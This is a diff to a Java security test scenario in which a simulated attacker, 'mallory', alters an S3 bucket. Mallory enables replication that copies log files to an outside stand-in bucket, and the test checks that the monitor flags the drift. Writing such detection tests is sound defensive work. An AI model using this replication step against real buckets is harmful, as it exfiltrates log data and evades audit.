@@ -4,6 +4,7 @@ import simulation.Scenario;
 import simulation.Stage;
 import software.amazon.awssdk.services.s3.model.ObjectLockEnabled;
 import software.amazon.awssdk.services.s3.model.ObjectLockRetentionMode;
+import software.amazon.awssdk.services.s3.model.ReplicationRule;
 import software.amazon.awssdk.services.s3.model.ReplicationRuleStatus;
 
 /** What only its owners can judge is told and left as it is. */
@@ -33,17 +34,19 @@ public final class BucketAltered extends Scenario {
     stage.settle();
     stage.checkTold("DRIFTED", "user/mallory", "ObjectLock");
 
+    var copy =
+        ReplicationRule.builder()
+            .status(ReplicationRuleStatus.ENABLED)
+            .destination(d -> d.bucket("arn:aws:s3:::elsewhere"))
+            .build();
     stage.attack(
         "mallory has the log files copied",
         aws ->
             aws.s3()
                 .putBucketReplication(r ->
                     r.bucket(bucket)
-                        .replicationConfiguration(to ->
-                            to.role("arn:aws:iam::111122223333:role/copy")
-                                .rules(rule ->
-                                    rule.status(ReplicationRuleStatus.ENABLED)
-                                        .destination(d -> d.bucket("arn:aws:s3:::elsewhere"))))));
+                        .replicationConfiguration(
+                            to -> to.role("arn:aws:iam::111122223333:role/copy").rules(copy))));
     stage.settle();
     stage.checkTold("DRIFTED", "user/mallory", "Replication");
 
